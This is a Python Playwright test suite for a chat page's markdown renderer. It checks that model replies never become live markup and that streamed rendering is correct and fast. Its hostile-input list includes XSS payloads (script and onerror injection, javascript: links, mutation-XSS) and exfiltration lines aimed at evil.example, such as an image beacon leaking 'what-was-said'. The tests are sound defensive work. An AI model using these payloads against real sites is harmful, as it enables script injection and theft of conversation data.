"""Model output on the chat page: it is only ever text, and is rendered in linear time."""

import json
import random
from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.people import somebody
from tests.support.server import LiveServer

_HOSTILE = [
    "<script>window.isOurs = false</script>",
    '<img src="x" onerror="window.isOurs = false">',
    "<svg><script>window.isOurs = false</script></svg>",
    '<iframe srcdoc="<script>parent.isOurs = false</script>"></iframe>',
    "<style>body { display: none !important }</style>",
    '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
    '<a href="javascript:window.isOurs = false">click</a>',
    "[click](javascript:window.isOurs%20=%20false)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\\javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/)",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/?what-was-said)",
    "![pixel](javascript:alert(1))",
    "[ref]: javascript:alert(1)\n\n[ref]",
    '[click](https://good.example "title\\" onclick=\\"alert(1)")',
    "```html\n<script>window.isOurs = false</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "- <b onmouseover=alert(1)>x\n\n> <base href='https://evil.example/'>",
]

_PLAIN = {
    *("a", "blockquote", "br", "button", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "input", "li", "ol"),
    *("p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
"""All elements that a reply may consist of."""

_ATTRIBUTES = {
    *("aria-label", "checked", "class", "data-copies", "dir", "disabled", "href", "rel", "start", "style", "tabindex"),
    *("target", "title", "type"),
}

_LOOK = """() => [...document.querySelectorAll(".text *")].map((element) => ({
    name: element.localName, href: element.getAttribute("href"),
    attributes: element.getAttributeNames(), style: element.getAttribute("style") }))"""


async def test_what_a_model_writes_is_never_markup(chromium: Browser, server: LiveServer) -> None:
    """Neither while it streams, nor when it is read again; nothing runs, and no other host is contacted."""
    async with somebody(chromium, server.url) as person:
        asked: list[str] = []
        person.page.on("request", lambda request: asked.append(request.url))
        await person.page.evaluate("window.isOurs = true")
        for number, text in enumerate([*_HOSTILE, "\n\n".join(_HOSTILE)]):
            await person.say(f"/simulate chunk=3\n{text}")
            await expect(person.replies).to_have_count(number + 1)
            await person.hears_the_end()
        live = await person.page.evaluate(_LOOK)
        assert await person.page.evaluate("window.isOurs")
        await person.page.reload()
        await person.sees_it_all()
        await expect(person.replies).to_have_count(len(_HOSTILE) + 1)
        for element in [*live, *await person.page.evaluate(_LOOK)]:
            assert element["name"] in _PLAIN
            assert set(element["attributes"]) <= _ATTRIBUTES
            assert element["href"] is None or element["href"].startswith(("https://", "http://", "mailto:"))
            assert element["style"] in {None, "text-align: left;", "text-align: center;", "text-align: right;"}
        assert await person.page.evaluate("violations") == []
        assert all(url.startswith(f"{server.url}/") for url in asked)
        assert await person.replies.first.locator(".text").text_content() == _HOSTILE[0]


_SAMPLES = {
    "prose": "One *two* **three** `four` ~~five~~ <six> & seven_eight_nine 5 * 3.\nA line break.\n\nAnother.  \nEnd",
    "lists": (
        "Before:\n- a\n- b\n  - c\n\n    d\n- e\n\nAfter\n\n1. one\n2. two\n\n   more\n3. three\n\n7) seven\n\n"
        "- [ ] open\n- [x] done\n"
    ),
    "code": (
        "Text\n```py\ndef f():\n\n    return '''\n# no heading\n'''\n```\nand `` a`b `` then\n\n    indented\n\n"
        "    more\n\n~~~\n```\n~~~\nend"
    ),
    "headings": "# One\nText\nSetext\n===\n\nother\n---\n## Two ##\n---\n\n***\nend",
    "quotes": "> a\n> b\nlazy\n\n> > c\n\nd\n> - e\n> - f\n",
    "tables": "x\n\n| a | b |\n|:--|--:|\n| `1` | **2** |\n| 3 |\n\nafter | all\n--|--\n1|2\nend",
    "links": (
        "[a](https://b.c/d_e_f) <https://x.y> https://z.w/q_r_s, mail@a.b ![i](https://p.q/r.png) [no](javascript:x)"
        " [ref]\n\n[ref]: https://no.no\n\nend"
    ),
    "unclosed": "**bold *it `code\n\n[link](http://\n\n> quote **x\n\n```\nnever closed\n\n# not a heading\n",
    "html": "<div>\n*a*\n</div>\n\n<!-- b\n\nc -->\n<pre>\nd\n\ne</pre>\nf",
    "scripts": "日本語**太字**です。\n\n1. 项目\n2. עברית\n\n👩‍👩‍👧‍👦 and e\u0301",
    "maths": "x \\( a_1*b*c \\) and $x_1*y$\n$$\na_1\n- b_1\n$$\n\n\\[\na*b*\n\\]\n$5 and $10\n\n$$\nnever\n- closed",
    "marks": "5~10, 20~30 &amp; [a](https://b.c/?d=1&amp;e=2) **“太字”**です &copy;&#x1f642;&nosuch; ``&amp;``",
    "lines": "\n".join(f"- item {n} **b{n}**\n" for n in range(12)) + "\n" + "\n".join(f"line {n}" for n in range(30)),
}

_RENDER = """async ([pieces, isLive]) => {
    const { GrowingText } = await import("/page/markdown.js");
    const root = document.createElement("div");
    const text = new GrowingText(root);
    for (const piece of isLive ? pieces : [pieces.join("")]) text.append(piece);
    text.finish();
    return [root.innerHTML, text.text];
}"""


def _pieces(text: str, chance: random.Random) -> list[str]:
    cuts = sorted(chance.sample(range(1, len(text)), min(len(text) - 1, chance.randrange(1, 60))))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


_ENDLESS = {
    "a paragraph": "word _with_ **some** `code`, and a [link](https://a.b) ",
    "lines": "a line of _words_\n",
    "a list": "- an item\n  - in an _item_\n",
    "a quotation": "> lines\n>\n> - of it\n",
    "a table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 50,
    "underscores": "a_b_",
}
"""Fragments that make an oversized block when repeated a thousand times."""


@pytest.fixture(scope="module")
async def page(chromium: Browser, server: LiveServer) -> AsyncIterator[Page]:
    """Where scripts can import the page's modules; they leave it as it is."""
    async with somebody(chromium, server.url) as person:
        yield person.page


@pytest.mark.parametrize("kind", sorted(_ENDLESS))
async def test_a_block_without_an_end_is_shown_in_parts(kind: str, page: Page) -> None:
    """In the same parts, however it arrived; in linear time, whatever the parser does."""
    chance = random.Random(20261123)  # noqa: S311 - not for secrets
    text = _ENDLESS[kind] * (25_000 // len(_ENDLESS[kind]))
    whole, kept = await page.evaluate(_RENDER, [[text], False])
    assert kept == text
    for _ in range(2):
        live, _kept = await page.evaluate(_RENDER, [_pieces(text, chance), True])
        assert live == whole


@pytest.mark.parametrize("size", ["short", "long"])
async def test_a_text_that_grows_looks_in_the_end_as_one_that_came_whole(size: str, page: Page) -> None:
    """However it was split; even if it is too long to be formatted at every word. And nothing is lost."""
    chance = random.Random(20261123)  # noqa: S311 - not for secrets
    for number in range(60):
        names = chance.sample(sorted(_SAMPLES), chance.randrange(1, 5))
        text = "\n\n".join(_SAMPLES[name] * (1 if size == "short" else chance.randrange(1, 12)) for name in names)
        pieces = _pieces(text, chance)
        live, kept = await page.evaluate(_RENDER, [pieces, True])
        whole, _ = await page.evaluate(_RENDER, [pieces, False])
        assert kept == text
        assert live == whole, (number, names, json.dumps(pieces))


_COUNT = """() => {
    window.drawn = 0;
    new MutationObserver((changes) => {
        for (const change of changes) {
            if (change.type === "characterData") window.drawn += 20;
            for (const node of change.addedNodes) window.drawn += node.textContent.length + 1;
        }
    }).observe(document.querySelector("#log"), { childList: true, subtree: true, characterData: true });
}"""

_LONG: dict[str, str] = {
    "one paragraph": "word **bold** and `code` " * 1_000,
    "paragraphs": ("A sentence of eight words, and no more.\n\n") * 625,
    "one code block": "```py\n" + "    print(some, words, in_a_line)\n" * 1_250 + "```",
    "one list": "- an item of *six* words\n" * 850,
}


@pytest.mark.parametrize("kind", sorted(_LONG))
async def test_what_is_drawn_goes_with_what_is_said(kind: str, chromium: Browser, server: LiveServer) -> None:
    """A reply of five thousand words is drawn only a few times, not once per word; and the page stays responsive."""
    async with somebody(chromium, server.url) as person:
        text = _LONG[kind]
        await person.page.evaluate(_COUNT)
        await person.page.evaluate(
            """async (text) => {
                const { ReplyTurn } = await import("/page/turns.js");
                const turn = (window.turn = new ReplyTurn());
                document.querySelector("#log").append(turn.element);
                const words = text.match(/\\S+\\s*/g);
                const say = (from) => {
                    turn.add(words.slice(from, from + 10).join(""));
                    if (from + 10 < words.length) setTimeout(say, 0, from + 10);
                    else turn.end("stop", {});
                };
                say(0);
            }""",
            text,
        )
        await person.page.keyboard.type("meanwhile")
        await expect(person.message).to_have_value("meanwhile")
        await expect(person.reply).to_have_attribute("aria-busy", "false", timeout=60_000)
        drawn: Any = await person.page.evaluate("window.drawn")
        assert await person.page.evaluate("window.turn.text") == text
        assert drawn < 30 * len(text)
